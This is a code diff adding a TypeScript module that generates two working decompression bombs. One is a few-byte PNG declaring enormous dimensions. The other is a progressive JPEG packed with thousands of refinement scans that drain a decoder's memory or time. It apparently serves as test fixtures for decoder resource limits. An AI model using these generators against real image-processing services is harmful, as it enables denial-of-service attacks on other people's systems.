@@ -1,0 +1,79 @@
+import { crc32, deflateSync } from 'node:zlib';
+
+/** Small files that cost whoever decodes them a lot of memory or time. */
+
+/** A PNG of a few bytes that declares so many pixels that unpacking it would fill the memory. */
+export function imageBomb(width: number, height: number): Buffer {
+  const header = Buffer.alloc(13);
+  header.writeUInt32BE(width, 0);
+  header.writeUInt32BE(height, 4);
+  header.set([8, 2, 0, 0, 0], 8);
+  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
+  const data = deflateSync(Buffer.alloc(90_001));
+  return Buffer.concat([
+    signature,
+    chunk('IHDR', header),
+    chunk('IDAT', data),
+    chunk('IEND', Buffer.alloc(0)),
+  ]);
+}
+
+function chunk(type: string, data: Buffer): Buffer {
+  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
+  const [length, checksum] = [Buffer.alloc(4), Buffer.alloc(4)];
+  length.writeUInt32BE(data.length);
+  checksum.writeUInt32BE(crc32(body));
+  return Buffer.concat([length, body, checksum]);
+}
+
+/**
+ * A progressive JPEG that refines every bit of every coefficient of a gray picture in a scan of its own, as the format
+ * allows. The blocks of a scan that change nothing cost one code in 32,767, so 2,646 scans fit into 200 kB.
+ */
+export function scanBomb(width: number, height: number): Buffer {
+  const blocks = Math.ceil(width / 8) * Math.ceil(height / 8);
+  const components = [1, 2, 3];
+  const size = Buffer.alloc(4);
+  size.writeUInt16BE(height, 0);
+  size.writeUInt16BE(width, 2);
+  const frame = [8, ...size, 3, ...components.flatMap((id) => [id, 0x11, 0])];
+  const unchanged = entropyCoded(`0${'1'.repeat(14)}`.repeat(Math.ceil(blocks / 32_767)));
+  const refinements = components.flatMap((id) =>
+    Array.from({ length: 63 * 14 }, (_, index) => {
+      const [coefficient, bit] = [Math.floor(index / 14) + 1, 13 - (index % 14)];
+      return [scanHeader([id], coefficient, coefficient, bit === 13 ? 0 : bit + 1, bit), unchanged];
+    }),
+  );
+  return Buffer.concat([
+    Buffer.from([0xff, 0xd8]),
+    segment(0xdb, [0, ...Array<number>(64).fill(1)]),
+    segment(0xc2, frame),
+    oneCodeTable(0x00, 0),
+    oneCodeTable(0x10, 0xe0),
+    scanHeader(components, 0, 0, 0, 0),
+    entropyCoded('0'.repeat(blocks * components.length)),
+    ...refinements.flat(),
+    Buffer.from([0xff, 0xd9]),
+  ]);
+}
+
+function scanHeader(ids: number[], first: number, last: number, above: number, bit: number): Buffer {
+  return segment(0xda, [ids.length, ...ids.flatMap((id) => [id, 0]), first, last, (above << 4) | bit]);
+}
+
+/** A Huffman table whose only code is the bit 0. */
+function oneCodeTable(id: number, symbol: number): Buffer {
+  return segment(0xc4, [id, 1, ...Array<number>(15).fill(0), symbol]);
+}
+
+function segment(marker: number, content: number[]): Buffer {
+  const length = content.length + 2;
+  return Buffer.from([0xff, marker, length >> 8, length & 0xff, ...content]);
+}
+
+/** Bits as a scan holds them: padded with ones, a 0 after each byte 0xFF. */
+function entropyCoded(bits: string): Buffer {
+  const padded = bits.padEnd(Math.ceil(bits.length / 8) * 8, '1');
+  const bytes = (padded.match(/.{8}/g) ?? []).map((byte) => Number.parseInt(byte, 2));
+  return Buffer.from(bytes.flatMap((byte) => (byte === 0xff ? [byte, 0] : [byte])));
+}
